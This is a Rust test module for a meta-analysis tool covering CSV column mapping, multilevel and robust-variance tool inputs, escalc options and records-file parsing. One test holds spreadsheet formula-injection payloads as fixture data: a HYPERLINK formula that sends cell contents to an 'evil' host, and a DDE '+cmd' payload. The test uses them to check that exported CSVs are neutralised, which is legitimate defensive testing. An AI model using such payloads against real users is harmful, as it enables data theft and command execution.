        assert_eq!(v.records[0].other["dose"], json!(5));
        // The tools get the row's other columns as moderators; an empty cell is left out.
        assert_eq!(
            v.tool_records[1],
            json!({"id": "s3", "yi": v.records[1].yi, "vi": v.records[1].vi, "measure": "SMD",
                "m1i": 12, "sd1i": 4, "n1i": 12, "m2i": 14.5, "sd2i": 3.5, "n2i": 15})
        );
        assert!(v
            .records_csv
            .starts_with("id,yi,vi,measure,m1i,sd1i,n1i,m2i,sd2i,n2i,dose\ns1,"));
        // A hand mapping to no column unmaps a column matched by name.
        let v = view(&request(&[("m2i", "mean_control"), ("sd1i", "")]));
        assert_eq!(v.k, 0);
    }

    /// Three studies (a CSV column "school"), two or three effect sizes each, as means and SDs.
    const NESTED: &str = "es,school,m1i,sd1i,n1i,m2i,sd2i,n2i\n\
a1,A,10.2,2.1,20,9.1,2.4,22\n\
a2,A,10.8,2.0,18,9.4,2.2,20\n\
b1,B,3.1,1.1,12,3.9,1.5,12\n\
b2,B,3.6,1.3,14,3.2,1.4,15\n\
b3,B,3.3,1.2,16,3.0,1.1,16\n\
c1,C,12,4,12,14.5,3.5,15\n\
c2,C,13,3.8,14,13.1,3.6,13\n";

    fn nested(mapping: &[(&str, &str)]) -> View {
        view(&Request {
            csv: NESTED.into(),
            measure: Some("MD".into()),
            mapping: mapping
                .iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect(),
            ..Request::default()
        })
    }

    fn offer(v: &View, takes: Takes) -> Offer {
        Offer {
            takes,
            study: v.study.clone(),
            k: v.k,
            rows: v.rows.len(),
        }
    }

    fn args(value: Value) -> Map<String, Value> {
        value.as_object().unwrap().clone()
    }

    /// Issue 22: the study column is mapped like the others, and a run of the tools for
    /// dependent effect sizes on Your data gets it as `study` or `cluster`.
    #[cfg(feature = "extended")]
    #[test]
    fn the_study_column_is_mapped_and_given_to_the_tools_that_need_one() {
        let unmapped = nested(&[("id", "es")]);
        assert_eq!((unmapped.k, unmapped.study.as_deref()), (7, None));
        let study = unmapped.mapping.iter().find(|m| m.column == STUDY).unwrap();
        assert!(study.optional && study.source.is_none());
        let none = tool_input(
            tools::FIT_MULTILEVEL.name,
            Map::new(),
            &offer(&unmapped, Takes::Records),
        )
        .unwrap_err();
        assert_eq!(
            none,
            "fit_multilevel needs the column naming each record's study: choose it as \"study\" \
             among Your data's columns, or type study in the form."
        );
        let none = tool_input(
            tools::ROBUST_TEST.name,
            Map::new(),
            &offer(&unmapped, Takes::Records),
        )
        .unwrap_err();
        assert!(none.ends_with("or type cluster in the form."), "{none}");
        // A tool without such an argument needs none.
        assert!(tool_input(
            tools::FIT_RANDOM_EFFECTS.name,
            Map::new(),
            &offer(&unmapped, Takes::Records)
        )
        .is_ok());

        let v = nested(&[("id", "es"), (STUDY, "school")]);
        assert_eq!(v.study.as_deref(), Some("school"));
        // The column keeps its name in the records, as a moderator would.
        assert_eq!(v.tool_records[2]["school"], json!("B"));
        let input = tool_input(
            tools::FIT_MULTILEVEL.name,
            args(json!({"method": "ML"})),
            &offer(&v, Takes::Records),
        )
        .unwrap();
        assert_eq!(input.args, args(json!({"method": "ML", "study": "school"})));
        assert_eq!(input.takes, Takes::Records);
        // The robust tests: the cluster always, the study only for the three-level model.
        let input = tool_input(
            tools::ROBUST_TEST.name,
            Map::new(),
            &offer(&v, Takes::Records),
        )
        .unwrap();
        assert_eq!(input.args, args(json!({"cluster": "school"})));
        let input = tool_input(
            tools::ROBUST_TEST.name,
            args(json!({"model": "multilevel", "cluster": "typed"})),
            &offer(&v, Takes::Records),
        )
        .unwrap();
        assert_eq!(
            input.args,
            args(json!({"model": "multilevel", "cluster": "typed", "study": "school"}))
        );

        // The completed arguments run: the same numbers as the records given by hand.
        let call = input_with(&v, tools::FIT_MULTILEVEL.name, json!({}));
        let fit = tools::call(tools::FIT_MULTILEVEL.name, &call).unwrap();
        assert_eq!(
            (fit["k"].clone(), fit["n_studies"].clone()),
            (json!(7), json!(3))
        );
        assert_eq!(fit["sigma2"].as_array().unwrap().len(), 2);
        let by_hand = tools::call(
            tools::FIT_MULTILEVEL.name,
            &json!({"records": v.tool_records, "study": "school"}),
        )
        .unwrap();
        assert_eq!(fit, by_hand);
        let robust = tools::call(
            tools::ROBUST_TEST.name,
            &input_with(&v, tools::ROBUST_TEST.name, json!({"model": "multilevel"})),
        )
        .unwrap();
        assert_eq!(robust["n_clusters"], json!(3));

        // Nothing to give: no records (no measure), or no rows.
        let no_measure = view(&Request {
            csv: NESTED.into(),
            ..Request::default()
        });
        assert_eq!(
            tool_input(
                "fit_random_effects",
                Map::new(),
                &offer(&no_measure, Takes::Records)
            )
            .unwrap_err(),
            "Your data has no records yet: paste a CSV there and choose a measure."
        );
        let empty = view(&Request::default());
        assert_eq!(
            tool_input("peto_odds_ratio", Map::new(), &offer(&empty, Takes::Data)).unwrap_err(),
            "Your data has no rows yet: paste a CSV there."
        );
        let v = tool_input_json(
            tools::ROBUST_TEST.name,
            r#"{"vcov": "CR1"}"#,
            r#"{"takes": "records", "study": "school", "k": 7, "rows": 7}"#,
        );
        assert_eq!(
            v,
            json!({"ok": {"args": {"vcov": "CR1", "cluster": "school"}, "takes": "records"}})
        );
        assert!(tool_input_json("x", "[1]", "{}")["error"]
            .as_str()
            .unwrap()
            .contains("not a JSON object"));
    }

    /// The arguments of a run of `tool` on Your data's records, as the page's worker makes them.
    fn input_with(v: &View, tool: &str, typed: Value) -> Value {
        let input = tool_input(tool, args(typed), &offer(v, Takes::Records)).unwrap();
        let mut call = Value::Object(input.args);
        call["records"] = Value::Array(v.tool_records.clone());
        call
    }

    /// Your data's rows as the 2x2-table tools take them: the columns mapped for the chosen
    /// measure under escalc's names, the rest under their own.
    #[cfg(feature = "extended")]
    #[test]
    fn the_rows_of_a_2x2_csv_are_the_tables_tools_data() {
        let csv = "trial,events_t,n1i,ci,n2i,year\nt1,12,100,20,100,2001\nt2,4,50,9,50,2003\nt3,0,20,3,20,2009\n";
        let request = Request {
            csv: csv.into(),
            measure: Some("OR".into()),
            mapping: [("ai", "events_t"), ("id", "trial")]
                .iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect(),
            ..Request::default()
        };
        let rows = tool_data(&request);
        assert_eq!(
            Value::Array(rows.into_iter().map(Value::Object).collect())[1],
            json!({"id": "t2", "ai": 4, "n1i": 50, "ci": 9, "n2i": 50, "year": 2003})
        );
        let data = rows_json(
            &serde_json::to_string(&json!({
                "csv": csv, "measure": "OR", "mapping": {"ai": "events_t", "id": "trial"}
            }))
            .unwrap(),
        );
        let by_hand = json!([
            {"ai": 12, "n1i": 100, "ci": 20, "n2i": 100},
            {"ai": 4, "n1i": 50, "ci": 9, "n2i": 50},
            {"ai": 0, "n1i": 20, "ci": 3, "n2i": 20}
        ]);
        // The same tables, the same numbers (the data's hash differs: the rows keep id and year).
        for tool in [tools::MANTEL_HAENSZEL.name, tools::PETO_ODDS_RATIO.name] {
            let [mut from_csv, mut given] =
                [&data, &by_hand].map(|data| tools::call(tool, &json!({"data": data})).unwrap());
            from_csv.as_object_mut().unwrap().remove("dataset");
            given.as_object_mut().unwrap().remove("dataset");
            assert_eq!(from_csv, given, "{tool}");
        }
        // Without a measure the columns keep their names; an unreadable request gives none.
        let plain = tool_data(&Request {
            csv: "ai,bi,ci,di\n1,9,2,8\n".into(),
            ..Request::default()
        });
        assert_eq!(
            Value::Object(plain[0].clone()),
            json!({"ai": 1, "bi": 9, "ci": 2, "di": 8})
        );
        assert_eq!(rows_json("{\"csv\": 3}"), json!([]));
        assert_eq!(
            tool_input(
                tools::MANTEL_HAENSZEL.name,
                args(json!({"data": [], "measure": "RR"})),
                &Offer {
                    takes: Takes::Data,
                    study: None,
                    k: 0,
                    rows: 3
                }
            )
            .unwrap(),
            ToolInput {
                args: args(json!({"measure": "RR"})),
                takes: Takes::Data
            }
        );
    }

    /// Issue 25, item 1: the records CSV the page offers for download must not carry a
    /// formula that a spreadsheet would run; the numbers stay numbers.
    #[test]
    fn the_records_csv_neutralizes_formulas_in_ids_text_and_column_names() {
        let csv = "id,m1i,sd1i,n1i,m2i,sd2i,n2i,note,@cmd\n\
\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",1,1,10,2,1,10,\"+cmd|' /C calc'!A0\",a\n\
@SUM(A1:A9),2,1,10,1,1,10,-x,-2\n\
-1,3,1,10,3,1,10,plain,b\n";
        let v = view(&Request {
            csv: csv.into(),
            measure: Some("MD".into()),
            ..Request::default()
        });
        assert_eq!((v.k, v.bad_rows, v.error.as_deref()), (3, 0, None));
        // The view and the JSON records keep the text as given; only the CSV is neutralised.
        assert_eq!(v.records[0].id, "=HYPERLINK(\"http://evil/?x=\"&A1)");
        // Neutralised cells are quoted; the negative yi right after the first id is not
        // prefixed.
        let text = &v.records_csv;
        assert!(text.contains(",\"'@cmd\"\n"), "{text}");
        assert!(
            text.contains("\n\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",-1"),
            "{text}"
        );
        // Read back (as `exemplar call --records` reads it), every text cell is text.
        let back = csv_table::parse(text).unwrap();
        let column = |name: &str| -> Vec<&str> {
            let i = back.header.iter().position(|h| h == name).unwrap();
            back.rows.iter().map(|r| r.fields[i].as_str()).collect()
        };
        assert_eq!(
            column("id"),
            [
                "'=HYPERLINK(\"http://evil/?x=\"&A1)",
                "'@SUM(A1:A9)",
                // A text id that is a plain number stays as it is (see docs/RELIABILITY.md).
                "-1"
            ]
        );
        assert_eq!(column("note"), ["'+cmd|' /C calc'!A0", "'-x", "plain"]);
        assert_eq!(column("'@cmd"), ["a", "-2", "b"]);
        let yi: Vec<f64> = column("yi").iter().map(|y| y.parse().unwrap()).collect();
        assert_eq!(yi, [-1.0, 1.0, 0.0]);
        for row in &back.rows {
            for field in &row.fields {
                assert!(!csv_table::is_formula_like(field), "{field:?}");
            }
        }
    }

    #[test]
    fn a_bad_csv_or_option_is_one_error_and_no_records() {
        let v = view(&Request {
            csv: "a,b\n1,2,3\n".into(),
            measure: Some("MD".into()),
            ..Request::default()
        });
        assert_eq!(
            v.error.as_deref(),
            Some("The CSV could not be read: line 2, column 3: the row has 3 fields, the header 2")
        );
        assert_eq!(v.error_kind, Some(ViewErrorKind::Csv));
        assert!(v.records.is_empty() && v.measures.len() == Measure::ALL.len());
        assert_eq!(v.correction.to_choices, ["only0", "all", "if0all", "none"]);
        assert_eq!(v.correction.add, 0.5);
        // The measure's options come with any view, even of no CSV.
        let v = view(&Request {
            measure: Some("PFT".into()),
            ..Request::default()
        });
        assert_eq!((v.correction.add, v.correction.drop00), (0.0, false));
        for (typed, read) in [("", None), (" 0.25 ", Some(0.25)), ("1e-1", Some(0.1))] {
            assert_eq!(typed_add(Some(typed)), Ok(read), "{typed:?}");
        }
        for typed in ["0,5", "0x10", "inf", "NaN", "half"] {
            let mut r = request(&[]);
            r.add = Some(typed.into());
            let v = view(&r);
            assert_eq!(v.error_kind, Some(ViewErrorKind::Options), "{typed:?}");
            assert!(
                v.error
                    .unwrap()
                    .contains("add must be a number such as 0.5"),
                "{typed:?}"
            );
        }
        let mut r = request(&[]);
        r.to = Some("sometimes".into());
        let v = view(&r);
        assert!(v.error.unwrap().contains("unknown to"));
        assert_eq!(
            v.error_kind,
            Some(ViewErrorKind::Options),
            "the columns can be mapped"
        );
        assert!(!v.mapping.is_empty());
        let v = view_json("{\"csv\": 3}");
        assert_eq!(v["error_kind"], "request");
        assert!(v["error"]
            .as_str()
            .unwrap()
            .starts_with("the request is not understood"));
        // A lone surrogate (JSON.stringify writes one pasted alone as \ud800) is named.
        let v = view_json(r#"{"csv": "id,yi\n\ud800,1\n"}"#);
        assert_eq!(
            v["error"].as_str().unwrap(),
            "the request is not understood: lone surrogate \\ud800 (a high surrogate not \
followed by a low surrogate \\uDC00-\\uDFFF: half of a UTF-16 pair, no character) at line 1 column 17"
        );
        // Without a measure the CSV is only shown.
        let v = view(&Request {
            csv: CSV.into(),
            ..Request::default()
        });
        assert_eq!((v.rows.len(), v.k, v.error), (3, 0, None));
        assert_eq!(v.error_kind, None);
    }

    #[test]
    fn the_options_follow_the_measure_and_vtype_drop00_reach_escalc() {
        let csv = "id,ai,bi,ci,di\na,0,10,0,12\nb,3,7,1,9\n";
        let with = |measure: &str, vtype: Option<&str>, drop00: Option<bool>| {
            view(&Request {
                csv: csv.into(),
                measure: Some(measure.into()),
                vtype: vtype.map(String::from),
                drop00,
                ..Request::default()
            })
        };
        let rd = with("RD", None, None);
        assert_eq!(rd.correction.add, 0.5);
        assert_eq!(rd.correction.vtypes, ["LS", "UB", "AV"]);
        assert!(rd.correction.corrected && rd.correction.drop00);
        assert_eq!(rd.k, 2);
        // The measure's own add default: 0 for AS, PHI, IRSD, PAS, PFT, IRS, IRFT.
        let phi = with("PHI", None, None);
        assert_eq!(phi.correction.add, 0.0);
        assert_eq!(phi.correction.vtypes, ["LS", "ST", "CS"]);
        let smd = with("SMD", None, None);
        assert!(!smd.correction.corrected && !smd.correction.drop00);
        assert_eq!(smd.correction.vtypes, ["LS", "UB", "LS2", "AV"]);
        assert!(with("OR", None, None).correction.vtypes.is_empty());
        // drop00 leaves out the table with no events in both groups, as escalc's.
        let dropped = with("RD", None, Some(true));
        assert_eq!((dropped.k, dropped.bad_rows), (1, 1));
        // vtype UB of RD: escalc's unbiased variance, not LS's.
        let ub = with("RD", Some("UB"), None);
        assert_ne!(ub.records[1].vi, rd.records[1].vi);
        let wrong = with("RD", Some("HO"), None);
        assert_eq!(wrong.error_kind, Some(ViewErrorKind::Options));
        assert!(
            wrong
                .error
                .as_deref()
                .unwrap()
                .contains("vtype \"HO\" is not one of RD's"),
            "{:?}",
            wrong.error
        );
        // An empty choice is the default.
        assert_eq!(with("RD", Some(""), None).records, rd.records);
    }

    #[cfg(feature = "extended")]
    #[test]
    fn records_files_are_json_or_csv() {
        let none = tools::EscalcSettings::default();
        let all = tools::EscalcSettings {
            to: Some("all".into()),
            ..Default::default()
        };
        let three =
            json!([{"id": "a", "yi": 0.1, "vi": 0.01, "x": 1}, {"id": "b", "yi": 0.2, "vi": 0.02}]);
        let from_array = records_from_text(&three.to_string(), None, &none).unwrap();
        assert_eq!(
            from_array[0],
            json!({"id": "a", "yi": 0.1, "vi": 0.01, "x": 1})
        );
        let wrapped = json!({"measure": "MD", "records": three});
        assert_eq!(
            records_from_text(&wrapped.to_string(), None, &none).unwrap(),
            from_array
        );
        let csv = "\u{feff}yi,vi,site\r\n0.1,0.01,n\r\n0.2,0.02,s\r\n";
        assert_eq!(
            records_from_text(csv, None, &none).unwrap(),
            [
                json!({"id": "row1", "site": "n", "yi": 0.1, "vi": 0.01}),
                json!({"id": "row2", "site": "s", "yi": 0.2, "vi": 0.02})
            ]
        );
        // Found by the csv_effect_sizes fuzz target: a JSON array of non-objects.
        let e = records_from_text("[1\n]", None, &none).unwrap_err();
        assert_eq!(
            e.message,
            "record 1 of the file is 1, not an object {id, yi, vi, …}"
        );
        let e = records_from_text("id,yi\na,1\n", None, &none).unwrap_err();
        assert!(e.message.contains("no vi column"), "{}", e.message);
        let e = records_from_text("yi,vi\n1,x\n", None, &none).unwrap_err();
        assert_eq!(e.message, "line 2, column vi: \"x\" is not a number");
        let raw = "xi,ni\n3,10\n0,12\n";
        let records = records_from_text(raw, Some("PLO"), &all).unwrap();
        assert_eq!(records[1]["vi"], json!(1.0 / 0.5 + 1.0 / 12.5));
        let (kept, omitted, _) =
            records_and_omitted_from_text("id,xi,ni\na,3,10\nb,,10\n", Some("PLO"), &none).unwrap();
        assert_eq!(kept.len(), 1);
        assert_eq!(
            omitted,
            [json!({"id": "b", "reason": "xi is empty (null)"})]
        );
        let e = records_from_text("xi,ni\n13,10\n", Some("PLO"), &none).unwrap_err();
        assert_eq!(e.code, tools::ErrorCode::InvalidData);
        assert!(records_from_text("[1,", None, &none).is_err());
    }
}
